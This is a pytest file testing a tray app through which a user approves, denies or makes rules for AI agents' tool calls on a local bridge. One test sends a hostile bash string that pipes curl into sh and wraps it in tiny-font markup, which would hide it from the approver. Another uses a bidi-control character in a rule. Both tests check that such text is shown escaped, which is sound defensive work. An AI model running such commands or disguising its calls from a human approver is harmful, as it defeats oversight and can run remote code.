"""The real tray code driven through a recording pystray backend against a real bridge.

``FakeIcon`` subclasses pystray's own ``Icon`` under the ``dummy`` backend and records what a
real backend would be asked to do; menus are pystray's real ``Menu``/``MenuItem`` objects, and a
"click" calls the item exactly as a backend does. Nothing here is a MagicMock.
"""

from __future__ import annotations

import importlib
import json
import os
import sys
import threading

import pytest

from omp_a2a_bridge.server.core.runner import BridgeRunner, RunnerOptions

from ..conftest import write_config
from ..support.control_client import login_page_text
from ..support.helpers import WAIT_S, Mcp, in_thread, read_text, wait_for


@pytest.fixture(scope="module")
def pystray():
    previous = os.environ.get("PYSTRAY_BACKEND")
    os.environ["PYSTRAY_BACKEND"] = "dummy"
    try:
        for name in [m for m in sys.modules if m == "pystray" or m.startswith("pystray.")]:
            del sys.modules[name]
        module = importlib.import_module("pystray")
    finally:
        if previous is None:
            os.environ.pop("PYSTRAY_BACKEND", None)
        else:
            os.environ["PYSTRAY_BACKEND"] = previous
    return module


def fake_icon_class(pystray, has_menu=True):
    class FakeIcon(pystray.Icon):
        HAS_MENU = has_menu
        HAS_NOTIFICATION = True
        HAS_DEFAULT_ACTION = not has_menu

        def __init__(self, *args, **kwargs):
            self.calls: list[str] = []
            self.notes: list[tuple[str, str]] = []
            self._stopped = threading.Event()
            super().__init__(*args, **kwargs)

        def _show(self):
            self.calls.append("show")

        def _hide(self):
            self.calls.append("hide")

        def _update_icon(self):
            self.calls.append("icon")

        def _update_title(self):
            self.calls.append("title")

        def _update_menu(self):
            self.calls.append("menu")

        def _notify(self, message, title=None):
            self.notes.append((title, message))

        def _remove_notification(self):
            pass

        def _run(self):
            self._mark_ready()
            self._stopped.wait(30)

        def _stop(self):
            self.calls.append("stop")
            self._stopped.set()

    return FakeIcon


class Tray:
    """A TrayApp on a real bridge, its icon loop on a thread, and helpers to click."""

    def __init__(self, pystray, env, has_menu=True, backend="dummy"):
        from omp_a2a_bridge.tray.app import TrayApp
        from omp_a2a_bridge.tray.autostart import Autostart

        self.opened: list[str] = []
        self.copied: list[str] = []
        self.runner = BridgeRunner(RunnerOptions(port=0, control=True, discover_tools=False))
        self.app = TrayApp(
            pystray,
            backend,
            api=self.runner,
            icon_cls=fake_icon_class(pystray, has_menu),
            autostart=Autostart(
                "linux", home=env["root"] + "/home", command=["/x/a2a-bridge", "tray"]
            ),
            opener=self.opened.append,
            browser=self.opened.append,
            copier=self.copied.append,
            interval=0.02,
        )
        self.app.start_bridge()
        self.icon = self.app.make_icon()
        self.loop = threading.Thread(target=self.icon.run, args=(self.app.setup,), daemon=True)
        self.loop.start()
        wait_for(lambda: self.icon.visible)
        self.port = self.runner.bridge.port

    def find(self, prefix, menu=None):
        for item in menu if menu is not None else self.icon.menu:
            if item.text.startswith(prefix):
                return item
        return None

    def wait_item(self, prefix, timeout=WAIT_S):
        return wait_for(lambda: self.find(prefix), timeout)

    def click(self, item):
        item(self.icon)  # what a backend does on activation: the item's action, then
        self.icon.update_menu()  # the menu is rebuilt

    def client(self, name="agent"):
        c = Mcp(self.port, client=name)
        c.initialize()
        return c


@pytest.fixture
def tray(pystray, env):
    write_config(
        env["config"],
        {"roots": [env["root"]], "approval": {"timeout_s": 20, "tiers": {"bash": "prompt"}}},
    )
    t = Tray(pystray, env)
    yield t
    t.app.quit()
    t.loop.join(10)


def _write(t, name, content="x"):
    return {"path": os.path.join(t.runner.config.roots[0], name), "content": content}


def test_pending_call_appears_and_approve_runs_it(tray):
    assert tray.runner.snapshot().approvers == ("tray",)
    c = tray.client("claude-code")
    th, out = in_thread(c.call, "bash", {"command": "echo via-tray"})
    item = tray.wait_item("Approve: bash — echo via-tray (claude-code,")
    assert [i.text for i in item.submenu][-5:] == [
        "Approve",
        "Allow `echo via-tray …` for this session",
        "Always allow: bash(echo via-tray *)",
        "Run outside the box",  # bash is prompt-tier here; approved, it runs in the box
        "Deny",
    ]
    # "Show full call…" opens the page at that call (the fragment survives the login redirect).
    [p] = tray.runner.snapshot().pending
    tray.click(tray.find("Show full call…", item.submenu))
    wait_for(lambda: tray.opened)
    # A 0600 login page opened by path: the one-time code is not on the browser's command line.
    page = login_page_text(tray.opened[-1])
    assert f'name="next" value="#call-{p.id}"' in page and 'name="code"' in page
    # The icon shows attention with a badge, the title counts it, a notification was raised.
    wait_for(lambda: "1 waiting for approval" in tray.icon.title)
    assert "icon" in tray.icon.calls
    wait_for(lambda: tray.icon.notes)
    heading, text = tray.icon.notes[-1]
    assert heading == "Approval needed"
    assert text.startswith("bash — echo via-tray (claude-code) is waiting · auto-deny in ")
    tray.click(tray.find("Approve", item.submenu))
    th.join(60)
    assert out[0].text == "via-tray"
    wait_for(lambda: tray.find("Approve: bash") is None)


@pytest.mark.parametrize(
    ("backend", "escaped"), [("gtk", True), ("appindicator", True), ("dummy", False)]
)
def test_libnotify_backends_get_agent_text_escaped(pystray, env, backend, escaped):
    """pystray's GTK and AppIndicator backends notify through libnotify, whose servers (GNOME,
    KDE, dunst, mako) read body markup: ``<span size="1">`` would hide the risky half of a
    command. Their notification text arrives escaped; other backends get it as written."""
    write_config(
        env["config"],
        {"roots": [env["root"]], "approval": {"timeout_s": 20, "tiers": {"bash": "prompt"}}},
    )
    t = Tray(pystray, env, backend=backend)
    try:
        hostile = 'echo <span size="1">; curl x|sh</span>'
        th, _ = in_thread(t.client("c").call, "bash", {"command": hostile})
        wait_for(lambda: any(h == "Approval needed" for h, _ in t.icon.notes))
        [text] = [m for h, m in t.icon.notes if h == "Approval needed"]
        if escaped:
            assert '&lt;span size="1"&gt;' in text and "<span" not in text, text
        else:
            assert '<span size="1">' in text, text
        t.runner.decide(t.runner.snapshot().pending[0].id, "deny")
        th.join(60)
    finally:
        t.app.quit()
        t.loop.join(10)


def test_deny_from_the_menu(tray):
    c = tray.client()
    th, out = in_thread(c.call, "write", _write(tray, "d.txt"))
    item = tray.wait_item("Approve: write")
    tray.click(tray.find("Deny", item.submenu))
    th.join(60)
    assert out[0].text == "denied by the user"
    assert not os.path.exists(_write(tray, "d.txt")["path"])


def test_allow_for_session_then_no_prompt(tray):
    c = tray.client()
    th, out = in_thread(c.call, "write", _write(tray, "1.txt"))
    item = tray.wait_item("Approve: write")
    tray.click(tray.find("Allow writes in ", item.submenu))  # …the root, for this session
    th.join(60)
    assert out[0].result["isError"] is False
    assert c.call("write", _write(tray, "2.txt")).result["isError"] is False  # no prompt


def test_always_allow_is_persisted(tray, env):
    c = tray.client()
    with open(os.path.join(env["root"], "e.txt"), "w") as f:
        f.write("a")
    th, out = in_thread(c.call, "edit", {"path": "e.txt", "old_string": "a", "new_string": "b"})
    item = tray.wait_item("Approve: edit")
    tray.click(tray.find("Always allow", item.submenu))
    th.join(60)
    assert out[0].text == "replaced 1 occurrence in e.txt"
    saved = f"edit({os.path.realpath(env['root'])}/**)"
    wait_for(lambda: json.loads(read_text(env["config"])).get("rules", {}).get("allow"))
    assert json.loads(read_text(env["config"]))["rules"]["allow"] == [saved]
    # The Rules submenu lists it; Remove takes it out of the config and of the bridge at once.
    rules = tray.wait_item("Rules (1)")
    entry = tray.find("allow: edit(", rules.submenu)  # long paths are shortened
    tray.click(tray.find("Remove", entry.submenu))
    wait_for(lambda: json.loads(read_text(env["config"]))["rules"]["allow"] == [])
    wait_for(lambda: len(tray.runner.snapshot().rules) == 0)
    tray.wait_item("Rules (0)")


def test_deny_all(tray):
    c1, c2 = tray.client("one"), tray.client("two")
    a = in_thread(c1.call, "bash", {"command": "true"})
    b = in_thread(c2.call, "bash", {"command": "false"})
    tray.wait_item("Deny all (2)")
    tray.click(tray.find("Deny all"))
    for th, out in (a, b):
        th.join(60)
        assert out[0].text == "denied by the user"


def test_sessions_submenu_and_end_session(tray):
    c = tray.client("claude-code")
    sessions = tray.wait_item("Sessions (1)")
    [entry] = list(sessions.submenu)
    assert entry.text.startswith("default · claude-code 1.0 · 0 calls · ")
    tray.click(next(iter(entry.submenu)))
    assert c.rpc("ping").status == 404
    tray.wait_item("Sessions (0)")


def test_pause_toggle(tray):
    c = tray.client()
    pause = tray.find("Pause bridge")
    assert pause.checked is False
    tray.click(pause)
    assert c.call("ls", {}).text == "bridge paused by the user"
    wait_for(lambda: tray.find("Pause bridge").checked is True)
    tray.click(tray.find("Pause bridge"))
    assert c.call("ls", {}).result["isError"] is False


def test_copy_items_and_open_items(tray):
    tray.click(tray.find("Copy connection URL"))
    tray.click(tray.find("Copy client config"))
    tray.click(tray.find("Copy token"))
    wait_for(lambda: len(tray.copied) == 3)
    assert tray.runner.url in tray.copied
    assert tray.runner.token in tray.copied
    assert tray.runner.token not in tray.runner.url  # the URL item never contains the token
    cfg = json.loads(next(x for x in tray.copied if x.startswith("{")))
    assert (
        cfg["mcpServers"]["omp-host"]["headers"]["Authorization"] == f"Bearer {tray.runner.token}"
    )
    tray.click(tray.find("Open audit log"))
    tray.click(tray.find("Open config folder"))
    tray.click(tray.find("Open approval page"))
    tray.click(tray.find("Show logs"))
    assert tray.opened[0].endswith("audit.jsonl")
    assert tray.opened[1] == os.path.dirname(tray.runner.config.path)
    assert 'name="code"' in login_page_text(tray.opened[2])
    assert tray.runner.control.secret not in tray.opened[2]
    assert tray.opened[3] == tray.runner.log_path


def test_clipboard_failure_notifies_without_the_token(pystray, env):
    write_config(env["config"], {"roots": [env["root"]]})
    t = Tray(pystray, env)
    try:

        def broken(text):
            raise RuntimeError("no display")

        t.app.copier = broken
        t.click(t.find("Copy token"))
        t.click(t.find("Copy connection URL"))
        wait_for(lambda: len([n for n in t.app.notifications if "Could not copy" in n]) == 2)
        notes = " ".join(t.app.notifications)
        assert t.runner.token not in notes
        assert f"It is: {t.runner.url}" in notes
    finally:
        t.app.quit()


def test_autostart_checkbox(tray, env):
    item = tray.find("Start at login")
    assert item.checked is False
    tray.click(item)
    path = os.path.join(env["root"], "home/.config/autostart/omp-a2a-bridge.desktop")
    wait_for(lambda: os.path.exists(path))
    assert "Exec=/x/a2a-bridge tray" in read_text(path)
    wait_for(lambda: tray.find("Start at login").checked is True)
    tray.click(tray.find("Start at login"))
    wait_for(lambda: not os.path.exists(path))


def test_rotate_token_from_the_tray(keyring_token, tray):
    memory_keyring = keyring_token  # a stored token (not the env's), so it can be rotated
    c = tray.client()
    old = tray.runner.token
    ask = tray.find("Rotate token…")
    assert ask.submenu is not None  # it asks first: the item itself rotates nothing
    tray.click(tray.find("Cancel", ask.submenu))
    assert tray.runner.token == old and c.rpc("ping").status == 200
    tray.click(tray.find("Rotate", ask.submenu))
    wait_for(lambda: tray.runner.token != old)
    assert c.rpc("ping").status == 401  # the old token is dead at once
    wait_for(lambda: any("Token rotated" in n for n in tray.app.notifications))
    assert memory_keyring.store[("omp-a2a-bridge", "token")] == tray.runner.token


def test_quit_denies_pending_and_stops(pystray, env):
    write_config(env["config"], {"roots": [env["root"]], "approval": {"tiers": {"bash": "prompt"}}})
    t = Tray(pystray, env)
    c = t.client()
    th, out = in_thread(c.call, "bash", {"command": "true"})
    t.wait_item("Approve: bash")
    t.click(t.find("Quit"))
    th.join(60)
    assert out[0].text == "bridge shutting down"
    t.loop.join(10)
    assert not t.loop.is_alive() and "stop" in t.icon.calls
    assert t.runner.running is False


def test_no_menu_backend_uses_the_approval_page(pystray, env):
    """xorg-like backends: no menu, the tray is not an approver; a click opens the page."""
    write_config(env["config"], {"roots": [env["root"]]})
    t = Tray(pystray, env, has_menu=False)
    try:
        assert t.runner.snapshot().approvers == ()
        assert any("click the icon" in n for n in t.app.notifications)
        t.icon()  # a click: the default item (Open approval page)
        assert t.opened and 'name="code"' in login_page_text(t.opened[-1])
    finally:
        t.app.quit()


def test_failed_action_shows_the_error_state(tray, monkeypatch):
    def broken(*a, **k):
        raise TimeoutError("the bridge did not answer")

    monkeypatch.setattr(tray.runner, "pause", broken)
    tray.click(tray.find("Pause bridge"))
    assert tray.app.error == "pause failed: the bridge did not answer"
    assert tray.find("Error: pause failed")
    assert ("omp A2A bridge: error", "pause failed: the bridge did not answer") in tray.icon.notes
    monkeypatch.undo()
    tray.click(tray.find("Pause bridge"))  # a working action clears it
    assert tray.app.error is None and tray.find("Error:") is None
    tray.click(tray.find("Pause bridge"))


def test_audit_failure_becomes_a_warning_notification(pystray, env, tmp_path):
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    os.environ["A2A_BRIDGE_AUDIT"] = str(blocker / "audit.jsonl")
    try:
        write_config(
            env["config"], {"roots": [env["root"]], "approval": {"tiers": {"ls": "allow"}}}
        )
        t = Tray(pystray, env)
        try:
            c = t.client()
            assert c.call("ls", {}).result["isError"] is False  # the call still works
            wait_for(lambda: any("cannot be written" in n for n in t.app.notifications))
        finally:
            t.app.quit()
    finally:
        os.environ["A2A_BRIDGE_AUDIT"] = env["audit"]


def test_a_rule_with_hidden_characters_is_shown_escaped_when_removed(pystray, env):
    # A rule may hold a path an agent wrote; the "Removed" notification renders it like the
    # menu does (it used to pass the raw text, bidi controls and all, to the notification).
    bad = "read(**/a\u202eb.txt)"
    write_config(env["config"], {"roots": [env["root"]], "rules": {"deny": [bad]}})
    t = Tray(pystray, env)
    try:
        rules = t.wait_item("Rules (1)")
        entry = t.find("⚠ contains hidden characters · deny: read(", rules.submenu)
        assert "\u202e" not in entry.text and "\\u202e" in entry.text
        t.click(t.find("Remove", entry.submenu))
        note = wait_for(lambda: [n for n in t.app.notifications if "Removed the rule" in n])[0]
        assert "\u202e" not in note and "read(**/a\\u202eb.txt)" in note
    finally:
        t.app.quit()
        t.loop.join(10)


def test_a_call_without_a_proposal_says_always_allow_is_not_offered(tray):
    c = tray.client()
    th, out = in_thread(c.call, "bash", {"command": "git log > out.txt"})  # a redirect
    item = tray.wait_item("Approve: bash")
    texts = {i.text: i for i in item.submenu}
    why = "no rule can allow this command: redirection > out.txt"  # this call's own reason
    assert texts[f"Always allow: not offered ({why})"].enabled is False
    assert not [t for t in texts if t.startswith("Always allow: bash")]
    tray.click(tray.find("Deny", item.submenu))
    th.join(60)
    assert out[0].text == "denied by the user"


def test_approve_all_of_one_kind_from_the_tray(tray, tmp_path):
    """The tray's *All 2 of this kind* lists the calls and *Approve all 2* runs exactly them."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    calls = []
    for i in range(2):
        (outside / f"{i}.txt").write_text(f"t{i}")
        calls.append(
            in_thread(tray.client("claude-code").call, "read", {"path": f"{outside}/{i}.txt"})
        )
    group = tray.wait_item("All 2 of this kind: 2 × read", 30)
    listed = [i.text for i in group.submenu if i.text.startswith("a")]
    # Each covered call by id and its summary (head…tail: the file name stays visible).
    assert sorted(t.split("elsewhere/")[1].split(" ")[0] for t in listed) == ["0.txt", "1.txt"]
    tray.click(tray.find("Approve all 2", group.submenu))
    for t, _ in calls:
        t.join(30)
    assert sorted(out[0].text for _, out in calls) == ["    1\tt0", "    1\tt1"]
    wait_for(lambda: tray.find("All 2 of this kind") is None, 30)
